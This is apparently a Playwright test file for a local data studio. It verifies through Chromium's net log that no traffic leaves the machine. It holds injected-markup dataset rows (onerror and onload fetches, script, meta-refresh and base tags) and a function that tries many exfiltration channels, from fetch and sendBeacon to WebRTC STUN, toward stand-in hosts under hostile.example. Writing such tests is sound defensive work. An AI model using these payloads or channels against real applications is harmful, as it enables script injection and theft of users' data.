/**
 * Nothing leaves the machine, whatever is in the data and whoever tries. Chromium writes down everything that its network
 * does (net log): names that it looks up, connections that it opens, datagrams that it sends. Rows full of markup are
 * looked at in the studio; then a script that should not be there tries every way out of the page, of its workers and of
 * its service worker. The log may hold no place of theirs.
 */
import { createSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { chromium, expect, test, type Page, type Worker } from '@playwright/test';
import config from '../playwright.config.ts';
import { goTo } from './harness/ways.ts';

/** Names that nobody has (RFC 2606), one for each way out: the log tells which one was taken. */
const outsider = (way: string) => `${way}.hostile.example`;

/**
 * Chromium looks up the name of a navigation before it asks the page's policy, which then forbids it: no request is sent.
 * Only a script of the page can begin one, and the policy lets no foreign script in.
 */
const WARMED = ['page-form', 'page-frame'];

/** What rows of a dataset may hold. */
const MARKUP = [
  `<img src="https://${outsider('row-img')}/a.png" onerror="fetch('https://${outsider('row-onerror')}')">`,
  `<script src="https://${outsider('row-script')}/a.js"></script>`,
  `<link rel="dns-prefetch" href="//${outsider('row-dns')}"><link rel="preconnect" href="//${outsider('row-connect')}">`,
  `<style>@import url(https://${outsider('row-css')}/a.css); * { background: url(https://${outsider('row-url')}/b) }</style>`,
  `<svg onload="fetch('https://${outsider('row-svg')}')"><image href="https://${outsider('row-svg-image')}/a"/></svg>`,
  `<iframe src="https://${outsider('row-frame')}"></iframe><object data="https://${outsider('row-object')}"></object>`,
  `![x](https://${outsider('row-markdown')}/a.png) [y](https://${outsider('row-link')}/) https://${outsider('row-text')}/`,
  `<meta http-equiv="refresh" content="0;url=https://${outsider('row-refresh')}/"><base href="https://${outsider('row-base')}/">`,
];

async function hostileRows(): Promise<Buffer> {
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: 'teal' } })
    .png()
    .toBuffer();
  const rows = MARKUP.map((words, i) => ({
    id: `${i} ${words}`,
    images: ['images/a.png'],
    conversations: [
      { from: 'human', value: `<image>\n${words}` },
      { from: 'gpt', value: `<think>${words}</think><answer>[{"image": 1, "bbox_2d": [${i}, 4, 40, 40]}]</answer>` },
    ],
    __proto__x: words,
  }));
  return Buffer.from(
    zipSync({ 'train.jsonl': strToU8(rows.map((row) => JSON.stringify(row)).join('\n')), 'images/a.png': png }),
  );
}

/** Asks servers of peer connections where it is seen from, as a call between browsers begins. */
function callPeers(servers: readonly string[]): Promise<void> {
  const peer = new RTCPeerConnection({ iceServers: servers.map((urls) => ({ urls })) });
  peer.createDataChannel('pictures');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}

/** Hears datagrams on this machine. */
async function listener() {
  const socket = createSocket('udp4');
  let heard = 0;
  socket.on('message', () => heard++);
  await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound));
  return { server: `stun:127.0.0.1:${(socket.address() as AddressInfo).port}`, heard: () => heard, socket };
}

/** Tries every way out that a script has, each with a name of its own; `from` says from where. */
async function tryAll({ from, zone }: { from: string; zone: string }): Promise<string[]> {
  const at = (way: string, path = '') => `https://${from}-${way}.${zone}/${path}`;
  const scope = globalThis as unknown as Record<string, unknown> & typeof globalThis;
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(at('fetch')),
    blind: () => fetch(at('blind'), { method: 'POST', mode: 'no-cors', body: 'pictures' }),
    socket: () => new WebSocket(at('socket').replace('https', 'wss')),
    events: () => new EventSource(at('events')),
    module: () => import(/* @vite-ignore */ at('module', 'a.js')),
    scripts: () => (scope['importScripts'] as (url: string) => void)(at('scripts', 'a.js')),
    transport: () => new (scope['WebTransport'] as new (url: string) => unknown)(at('transport')),
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at('worker'))})`]))),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
    },
    font: () => new FontFace('x', `url(${at('font', 'a.woff2')})`).load(),
  };
  if (typeof document !== 'undefined') {
    const element = (tag: string, attributes: Record<string, string>) => () => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      return made;
    };
    const link = (rel: string, more: Record<string, string> = {}) =>
      element('link', { rel, href: at(`link-${rel}`, 'a'), ...more });
    Object.assign(ways, {
      image: element('img', { src: at('image', 'a.png') }),
      srcset: element('img', { srcset: `${at('srcset', 'a.png')} 1x` }),
      script: element('script', { src: at('script', 'a.js') }),
      frame: element('iframe', { src: at('frame') }),
      object: element('object', { data: at('object') }),
      embed: element('embed', { src: at('embed') }),
      video: element('video', { src: at('video', 'a.mp4'), poster: at('poster', 'a.png') }),
      audio: element('audio', { src: at('audio', 'a.mp3'), preload: 'auto' }),
      style: element('div', { style: `background: url(${at('style', 'a.png')}); width: 9px; height: 9px` }),
      prefetch: link('prefetch'),
      preload: link('preload', { as: 'image' }),
      modulepreload: link('modulepreload'),
      stylesheet: link('stylesheet'),
      icon: link('icon'),
      manifest: link('manifest'),
      sheet: () => {
        const sheet = document.createElement('style');
        sheet.textContent = `@import url(${at('import', 'a.css')}); #main { background-image: url(${at('sheet', 'a.png')}) }`;
        document.head.append(sheet);
      },
      form: () => {
        const form = document.createElement('form');
        Object.assign(form, { action: at('form'), method: 'post' });
        document.body.append(form);
        form.submit();
      },
      beacon: () => navigator.sendBeacon(at('beacon'), 'pictures'),
      base: element('base', { href: at('base') }),
      service: () => navigator.serviceWorker.register(at('service', 'sw.js')),
    });
  }
  const done: string[] = [];
  for (const [way, attempt] of Object.entries(ways))
    try {
      const result = attempt();
      (result as Promise<unknown> | undefined)?.catch?.(() => undefined);
      done.push(way);
    } catch {
      done.push(way);
    }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return done;
}

interface NetLog {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
  readonly events: readonly { readonly type: number; readonly params?: Readonly<Record<string, unknown>> }[];
}

/** Places that the browser looked up, connected to or sent to. */
async function placesIn(file: string): Promise<string[]> {
  const text = await readFile(file, 'utf8');
  // Chromium ends the log when it closes; one that was cut off lacks its last brackets.
  const log = (() => {
    try {
      return JSON.parse(text) as NetLog;
    } catch {
      return JSON.parse(`${text.slice(0, text.lastIndexOf('},') + 1)}]}`) as NetLog;
    }
  })();
  const names = new Map(Object.entries(log.constants.logEventTypes).map(([name, type]) => [type, name]));
  const places = new Set<string>();
  for (const { type, params } of log.events) {
    const name = names.get(type) ?? '';
    const place = params?.['host'] ?? params?.['address'] ?? params?.['remote_address'];
    if (/^HOST_RESOLVER|^TCP_CONNECT|^UDP_|^QUIC_SESSION|^SSL_CONNECT/.test(name) && typeof place === 'string')
      places.add(place);
  }
  return [...places].toSorted();
}

test('no packet leaves for another place: not from rows full of markup, not from a script in page or workers', async ({
  baseURL,
}) => {
  const folder = await mkdtemp(join(tmpdir(), 'groundwork-netlog-'));
  const file = join(folder, 'net.json');
  const options = config.projects![0]!.use!.launchOptions!;
  const browser = await chromium.launch({ ...options, args: [...(options.args ?? []), `--log-net-log=${file}`] });
  try {
    const context = await browser.newContext({ baseURL: baseURL! });
    const page: Page = await context.newPage();
    await page.goto('./#/data');
    await page
      .locator('input[data-pick="file"]')
      .first()
      .setInputFiles({ name: 'hostile.zip', mimeType: 'application/zip', buffer: await hostileRows() });
    await expect(page.getByText('hostile.zip, read as')).toBeVisible();
    await expect(page.getByText('row-svg.hostile.example').first()).toBeVisible();
    for (const room of ['Recipe', 'Inspect', 'Data']) await goTo(page, room);
    // A row's words are words: no element of theirs is in the page.
    expect(
      await page.locator('[src*="hostile.example"], [href*="hostile.example"], [data*="hostile.example"]').count(),
    ).toBe(0);

    await expect.poll(() => page.workers().length).toBeGreaterThan(0);
    await expect.poll(() => context.serviceWorkers().length).toBe(1);
    const zone = 'hostile.example';
    const tried: Record<string, string[]> = {};
    // The worker that brings models may speak to a Hub by its trade, and knows nothing of the data.
    const speakers: [string, Page | Worker][] = [
      ...page
        .workers()
        .filter((worker) => !/hub-worker/.test(worker.url()))
        .map((worker): [string, Worker] => ['engine', worker]),
      ['service', context.serviceWorkers()[0]!],
      ['page', page],
    ];
    for (const [from, speaker] of speakers) tried[from] = await (speaker as Page).evaluate(tryAll, { from, zone });
    expect(Object.keys(tried)).toEqual(['engine', 'service', 'page']);
    expect(tried['page']!.length).toBeGreaterThan(25);
    expect(tried['engine']!.length).toBeGreaterThan(8);

    // WebRTC is no request: no policy of a page speaks of it.
    const peers = await listener();
    const servers = [peers.server, `stun:page-peer.${zone}`];
    expect(await page.workers()[0]!.evaluate(() => 'RTCPeerConnection' in globalThis)).toBe(false);
    await page.evaluate(callPeers, servers).catch(() => undefined);
    await page.waitForTimeout(1500);
    expect(peers.heard()).toBe(0);
    // Who has no such header is heard: this is awake.
    const other = await context.newPage();
    await other.evaluate(callPeers, [peers.server]);
    await expect.poll(() => peers.heard()).toBeGreaterThan(0);
    peers.socket.close();
    await context.close();
  } finally {
    await browser.close();
  }
  const places = await placesIn(file);
  await rm(folder, { recursive: true, force: true });
  // The log is awake: it has seen the studio's own server.
  expect(places.some((place) => place.includes('127.0.0.1'))).toBe(true);
  // What else is in it is the browser's own: its updates, its probes of the network.
  const outside = places.filter((place) => place.includes('hostile.example'));
  expect(outside.filter((place) => !WARMED.some((way) => place.includes(outsider(way))))).toEqual([]);
});
